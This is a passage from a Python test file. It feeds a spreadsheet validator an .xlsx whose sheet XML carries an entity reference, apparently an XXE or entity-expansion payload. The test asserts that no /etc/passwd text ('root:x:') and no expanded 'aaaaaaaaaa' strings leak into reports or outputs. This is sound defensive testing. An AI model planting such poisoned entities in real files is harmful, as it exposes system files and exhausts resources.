        'spreadsheetml/2006/main"><sheetData><row r="2"><c r="B2" t="inlineStr"><is><t>&x;'
        "</t></is></c></row></sheetData></worksheet>"
    ).encode()
    path = tmp_path / "entities.xlsx"
    with zipfile.ZipFile(templates["SOLN"]) as src, zipfile.ZipFile(path, "w") as dst:
        for item in src.infolist():
            dst.writestr(
                item, sheet if item.filename == "xl/worksheets/sheet2.xml" else src.read(item)
            )
    report = check(path, campaign, "2026-06")
    assert not any("root:" in i.message or "aaaaaaaaaa" in i.message for i in report)
    # the poisoned Титул reads as a sheet without its labels; the rest of the book is checked
    assert ("SUB13", F.TITLE.name) in {(i.code, i.location.sheet) for i in report}
    inbox = tmp_path / "in"
    inbox.mkdir()
    path.rename(inbox / path.name)
    result = collect(inbox, "2026-06", campaign, tmp_path / "out", workers=1, feedback=True)
    assert result.consolidation is not None
    for output in [result.outputs["regional"], *result.feedback]:
        with zipfile.ZipFile(output) as z:
            assert not any(
                b"root:x:" in z.read(n) or b"aaaaaaaaaa" * 10 in z.read(n) for n in z.namelist()
            )
